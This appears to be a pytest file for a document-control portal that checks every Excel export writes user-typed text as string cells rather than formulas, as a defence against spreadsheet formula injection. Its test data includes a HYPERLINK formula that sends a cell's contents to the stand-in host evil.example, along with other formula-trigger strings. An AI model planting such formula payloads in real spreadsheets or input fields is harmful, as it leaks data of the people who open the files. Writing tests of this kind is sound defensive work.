"""Every Excel export writes user text as text (issue 9, item 10), and opens whatever is
stored (item 14): a value starting with = + - @ tab or CR is a string cell, never a formula,
and carries Excel's quotePrefix flag, in every .xlsx the portal serves, browser and API; one
place (portal/xlsx.py) does it for all of them."""
import io
import re
import zipfile

import openpyxl
import pytest
from pages import signed_in

from portal import clock
from portal.documents import distribution
from portal.documents import services as documents
from portal.documents import workflow
from portal.extensions import db
from portal.objectives import services as objectives
from portal.procedures import services as runs
from portal.records import services as records
from portal.xlsx import EXCEL_MAX_CELL_CHARS, FORMULA_TRIGGERS, workbook_bytes

LINK = '=HYPERLINK("https://evil.example/?x="&B3,"点击")'
HOSTILE = [LINK, "+1", "-1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]


def sheet_cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_only(data: bytes, planted: list[str]) -> None:
    """No formula anywhere, every text a string cell, and each planted text there as typed,
    flagged quotePrefix when it starts like a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", package.read(name)), f"a formula in {name}"
    cells = sheet_cells(data)
    for cell in cells:
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
    for text in planted:
        hits = [cell for cell in cells if cell.value == text]
        assert hits, f"{text!r} not exported"
        assert all(cell.data_type == "s" for cell in hits)
        if text.startswith(FORMULA_TRIGGERS):
            assert all(cell.quotePrefix for cell in hits), text


def test_workbook_writes_every_hostile_text_as_a_string(app):
    data = workbook_bytes(LINK, HOSTILE, [HOSTILE, list(reversed(HOSTILE))])
    assert_text_only(data, HOSTILE)


def test_numbers_stay_numbers_and_plain_text_gets_no_prefix(app):
    data = workbook_bytes("清单", ["a", "b", "c"], [[12, 2.5, "合格"], ["", None, "1-2"]])
    cells = {cell.coordinate: cell for cell in sheet_cells(data)}
    assert cells["A3"].value == 12 and cells["A3"].data_type == "n"
    assert cells["B3"].value == 2.5
    assert cells["C3"].value == "合格" and not cells["C3"].quotePrefix
    assert cells["C4"].value == "1-2" and not cells["C4"].quotePrefix


def test_whatever_is_stored_the_workbook_opens(app):
    """Control characters, lone surrogates, a string past Excel's cell limit, numbers Excel
    cannot hold, and a sheet name with the characters Excel forbids."""
    odd = ["a\x00b\x0bc\ufffe", "x\ud800y", "\ud83d\ude00", "長" * 40_000, 10**40, float("nan"),
           float("inf"), {"k": [1, 2]}, ["a", "b"], 10**5000]
    data = workbook_bytes("台账: a/b*?[x]'\x01", ["标签\x07", "\ud800"], [odd])
    cells = sheet_cells(data)
    values = [cell.value for cell in cells if cell.row == 3]
    assert values[0] == "abc" and values[1] == "x\ufffdy" and values[2] == "😀"
    assert len(values[3]) == EXCEL_MAX_CELL_CHARS and values[3].endswith("…")
    assert values[4] == str(10**40) and values[5] == "nan" and values[6] == "inf"
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.active.title == "台账_ a_b___x_"


# --- every export of the app -------------------------------------------------------------

browser = signed_in


@pytest.fixture
def world(f):
    """A controller's department, documents, a form with a record, an external document and a
    recalled copy, every user-typed text written straight into the database (as an import or
    an older version might have stored it) with a hostile value."""
    controller = f.user("controller")
    holder = f.user("staff", department=controller.department_code, name="@SUM(A1:A9)")
    doc = f.document(controller)
    rev = f.effective(doc, controller)
    form = documents.create_document(controller, {"code": "QR-INJ", "title": "维修记录", "doc_type": "form",
                                                  "department": controller.department_code})
    form_rev = documents.start_revision(controller, form, {
        "body_html": "<p>表</p>", "change_summary": "首版",
        "fields": [{"name": "customer", "label": "客户", "type": "text"},
                   {"name": "notes", "label": "备注", "type": "textarea"}]})
    f.approved(form_rev)
    workflow.release_revision(controller, form_rev, {"effective_date": clock.today().isoformat()})
    rec = records.issue_record(holder, form, {"data": {"customer": "甲", "notes": "乙"}})
    external = f.document(controller, doc_type="external", title="GB/T 19001")
    copy = distribution.issue_copy(controller, rev, {"holder": holder.username})[0]
    distribution.recall_copy(controller, copy, {"outcome": "returned", "witness": "王五"})

    controller.department.name = "-1"
    doc.title, doc.clauses = LINK, ["+1"]
    form.title = "=1+1"
    form_rev.fields = [{"name": "customer", "label": "\t=1+1", "type": "text"},
                       {"name": "notes", "label": "备注", "type": "textarea"}]
    rec.data = {"customer": LINK, "notes": "\r=1+1"}
    external.external_source, external.external_edition = "@SUM(A1:A9)", "+1"
    external.applicability, external.title = "\t=1+1", "=1+1"
    copy.recall_witness = "\r=1+1"
    procedure = documents.create_document(controller, {"code": "QP-INJ", "title": "售后服务管理程序",
                                                       "doc_type": "procedure", "department": controller.department_code})
    proc_rev = documents.start_revision(controller, procedure, {
        "body_html": "<p>流程</p>", "change_summary": "首版", "steps": [{"name": "受理", "due_hours": 24}]})
    f.approved(proc_rev)
    workflow.release_revision(controller, proc_rev, {"effective_date": clock.today().isoformat()})
    run = runs.start_run(controller, procedure, {"subject": "报修", "department": controller.department_code})
    run.subject = "=1+1报修"
    objectives.create_objective(controller, {"name": "=1+1目标", "target": 3, "comparison": ">=", "unit": "count",
                                             "frequency": "month", "measure": {"kind": "count", "form_id": form.id}})
    db.session.commit()
    return {"controller": controller, "form": form, "holder": holder}


EXPORTS = {
    # url (browser or /api/v1), the hostile texts it must carry
    "/master-list.xlsx": [LINK, "+1", "-1"],
    "/api/v1/master-list.xlsx": [LINK, "+1", "-1"],
    "/forms.xlsx": ["=1+1", "-1"],
    "/forms/{form}/records.xlsx": ["=1+1台账", "\t=1+1", LINK, "\r=1+1", "-1"],
    "/api/v1/forms/{form}/register.xlsx": ["=1+1台账", "\t=1+1", LINK, "\r=1+1", "-1"],
    "/copies?format=xlsx": [LINK, "\r=1+1"],
    "/external?format=xlsx": ["=1+1", "@SUM(A1:A9)", "+1", "\t=1+1"],
    "/api/v1/external-documents.xlsx": ["=1+1", "@SUM(A1:A9)", "+1", "\t=1+1"],
    "/objectives/export.xlsx": ["=1+1目标"],
    "/runs.xlsx": ["=1+1报修"],
    "/api/v1/runs.xlsx": ["=1+1报修"],
    "/api/v1/objectives.xlsx": ["=1+1目标"],
    # the programme's coverage matrix: a row per department (by name)
    "/audit-programme/{year}.xlsx": ["-1"],
    "/api/v1/audit-programme/{year}.xlsx": ["-1"],
}


@pytest.mark.parametrize("url", sorted(EXPORTS))
def test_every_export_writes_user_text_as_text(app, f, world, url):
    target = url.format(form=world["form"].id, year=clock.today().year)
    if target.startswith("/api/v1"):
        response = f.api(world["controller"]).get(target[len("/api/v1"):])
    else:
        response = browser(app, world["controller"]).get(target)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert "spreadsheetml" in response.headers["Content-Type"]
    planted = EXPORTS[url] + (["@SUM(A1:A9) (%s)" % world["holder"].username] if "copies" in url else [])
    assert_text_only(response.data, planted)


def test_the_list_above_is_every_excel_export_of_the_app(app):
    """A new .xlsx route must join EXPORTS (and so this test)."""
    covered = {re.sub(r"\?.*|\{\w+\}", "", url) for url in EXPORTS}
    routes = {re.sub(r"<[^>]+>", "", rule.rule) for rule in app.url_map.iter_rules()
              if "xlsx" in rule.rule}
    assert routes <= covered, routes - covered
    views = {rule.rule for rule in app.url_map.iter_rules() if rule.endpoint in ("copies.register",
                                                                                "copies.external")}
    assert views == {"/copies", "/external"}  # the two that answer ?format=xlsx
